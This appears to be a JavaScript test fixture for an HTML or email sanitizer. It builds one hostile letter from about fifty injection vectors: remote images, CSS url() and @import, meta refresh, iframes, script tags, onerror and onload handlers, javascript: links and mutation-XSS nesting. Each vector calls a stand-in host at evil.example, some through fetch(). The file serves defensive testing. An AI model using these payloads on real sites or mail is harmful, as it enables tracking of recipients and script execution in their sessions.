// Ways in which a letter tries to phone home, to run script, or to leave its frame. Each goes to a host of its
// own, so that a test can say which one got through.
const host = (i) => `https://h${i}.evil.example`;

const ways = [
	(u) => `<img src="${u}/a.png">`,
	(u) => `<img srcset="${u}/a.png 1x, ${u}/b.png 2x">`,
	(u) => `<picture><source srcset="${u}/a.webp"><img src="${u}/a.png"></picture>`,
	(u) => `<img src="${u}/p.gif" width="1" height="1">`,
	(u) => `<img src=//${u.slice(8)}/a.png>`,
	(u) => `<img src="${u}/a.png" loading="lazy" style="width:1px">`,
	(u) => `<table background="${u}/bg.png"><tr><td>x</td></tr></table>`,
	(u) => `<body background="${u}/bg.png">`,
	(u) => `<div style="background:url(${u}/a.png);height:9px">x</div>`,
	(u) => `<div style="background:u\\72l(${u}/a.png);height:9px">x</div>`,
	(u) => `<div style="background-image:image-set('${u}/a.png' 1x);height:9px">x</div>`,
	(u) => `<style>@import url(${u}/a.css);</style>`,
	(u) => `<style>@import '${u}/a.css';</style>`,
	(u) => `<style>@font-face{font-family:x;src:url(${u}/a.woff2)}p{font-family:x}</style><p>x</p>`,
	(u) => `<style>p::before{content:url(${u}/a.png)}</style><p>x</p>`,
	(u) => `<style>ul{list-style:url(${u}/a.png)}</style><ul><li>x</ul>`,
	(u) => `<style>p{cursor:url(${u}/a.cur),auto}</style><p>x</p>`,
	(u) => `<style>p{mask:url(${u}/a.svg#m);filter:url(${u}/b.svg#f)}</style><p>x</p>`,
	(u) => `<link rel="stylesheet" href="${u}/a.css">`,
	(u) => `<link rel="preload" as="image" href="${u}/a.png"><link rel="prefetch" href="${u}/b"><link rel="dns-prefetch" href="${u}"><link rel="preconnect" href="${u}">`,
	(u) => `<link rel="icon" href="${u}/a.ico">`,
	(u) => `<base href="${u}/"><img src="a.png">`,
	(u) => `<meta http-equiv="refresh" content="0;url=${u}/">`,
	(u) => `<meta http-equiv="Content-Security-Policy" content="report-uri ${u}/r">`,
	(u) => `<iframe src="${u}/"></iframe>`,
	(u) => `<iframe srcdoc="<img src=${u}/a.png>"></iframe>`,
	(u) => `<object data="${u}/a.swf"></object><embed src="${u}/a.swf">`,
	(u) => `<video src="${u}/a.mp4" poster="${u}/a.png" autoplay></video><audio src="${u}/a.mp3" autoplay></audio>`,
	(u) => `<video><source src="${u}/a.mp4"><track src="${u}/a.vtt" default></video>`,
	(u) => `<svg><image href="${u}/a.png" width="9" height="9"/></svg>`,
	(u) => `<svg><use xlink:href="${u}/a.svg#x"/></svg>`,
	(u) => `<svg><filter id="f"><feImage href="${u}/a.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
	(u) => `<svg><style>@import '${u}/a.css';</style></svg>`,
	(u) => `<math><mtext><table><mglyph><style><img src="${u}/a.png"></style></mglyph></table></mtext></math>`,
	(u) => `<form action="${u}/"><input type="image" src="${u}/a.png"><button autofocus>x</button></form>`,
	(u) => `<input type="image" src="${u}/a.png">`,
	(u) => `<a ping="${u}/p" href="${u}/">link</a>`,
	(u) => `<script src="${u}/a.js"></script>`,
	(u) => `<script>fetch("${u}/s");parent.postMessage({kind:"ran"},"*")</script>`,
	(u) => `<img src=x onerror="fetch('${u}/e');parent.postMessage({kind:'ran'},'*')">`,
	(u) => `<svg onload="fetch('${u}/l')"></svg><body onload="fetch('${u}/b')">`,
	(u) => `<details open ontoggle="fetch('${u}/t')">x</details>`,
	(u) => `<a href="javascript:fetch('${u}/j')" id="jsl">x</a><iframe src="javascript:fetch('${u}/k')"></iframe>`,
	(u) => `<noscript><p title="</noscript><img src=${u}/a.png onerror=fetch('${u}/n')>"></noscript>`,
	(u) => `<template><img src="${u}/a.png"></template><div><template shadowrootmode="open"><img src="${u}/s.png"></template></div>`,
	(u) => `<!--[if mso]><img src="${u}/a.png"><![endif]--><!--><img src="${u}/b.png">-->`,
	(u) => `<div style="background:url(&quot;${u}/a.png&quot;)">x</div><div STYLE='background:URL(${u}/b.png)'>x</div>`,
	(u) => `<td background='${u}/a.png' bgcolor="#fff">x</td><font style="behavior:url(${u}/a.htc)">x</font>`,
	(u) => `<img src="data:text/html,<script>fetch('${u}/d')</script>"><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}/i.png'/></svg>">`,
	(u) => `<style>:root{--x:url(${u}/a.png)}p{background:var(--x)}</style><p>x</p>`,
	(u) => `<style>p{background:url(${u}/a.png</style><p>x</p>`,
	(u) => `<img data-ll-src="${u}/a.png"><p data-ll-style="background:url(${u}/b.png)">x</p>`,
	(u) => `<p style="color:red" style="background:url(${u}/b.png)">x</p><p/style="background:url(${u}/c.png)">x</p>`,
	(u) => `<portal src="${u}/"></portal><fencedframe src="${u}/"></fencedframe><frameset><frame src="${u}/"></frameset>`,
];

export const count = ways.length;

/** All of them in one letter, each followed by words that must still be shown. */
export function hostileHtml() {
	return `<html><body><p>begin</p>${ways.map((way, i) => `${way(host(i))}</style></svg></math></noscript></template></form></object></video>`).join("\n")}<p>the end is shown</p></body></html>`;
}
